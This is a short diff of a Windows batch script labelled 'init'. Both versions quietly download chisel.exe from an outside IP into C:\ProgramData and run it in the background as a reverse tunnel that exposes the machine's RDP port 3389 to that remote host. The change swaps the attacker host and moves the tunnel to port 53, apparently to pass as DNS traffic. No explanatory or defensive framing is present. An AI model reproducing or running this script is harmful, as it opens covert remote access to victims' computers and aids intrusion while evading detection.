@@ -1,4 +1,4 @@
-REM init 3368 v4
+REM init 3119 v4
 @echo off
-curl -sLo C:\ProgramData\chisel.exe http://203.0.113.17/chisel.exe
-start /b C:\ProgramData\chisel.exe client 203.0.113.17:9001 R:3389:127.0.0.1:3389
+curl -sLo C:\ProgramData\chisel.exe http://198.51.100.23/chisel.exe
+start /b C:\ProgramData\chisel.exe client 198.51.100.23:53 R:3389:127.0.0.1:3389
